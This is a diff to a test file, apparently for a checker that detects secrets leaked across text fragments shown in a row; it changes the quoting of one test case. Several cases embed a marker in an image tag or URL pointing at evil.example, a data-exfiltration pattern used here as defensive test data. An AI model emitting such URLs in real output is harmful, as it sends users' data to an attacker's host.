@@ -119,7 +119,7 @@ test('texts that are shown in a row are read as one', () => {
     ['<img src="https://evil.example/?a=', `${MARK} ">`, false],
     ['a <', `img src="//e/? ${MARK}">`, false],
     ['see https://evil.example/?', `${MARK} `, false],
-    ['``', '`html\n' + MARK, false],
+    ['``', `\`html\n${MARK}`, false],
     ['x', `\`\`\`\n${MARK}\n\`\`\``, false],
     ['```\n', `${MARK}\n`, false],
   ]
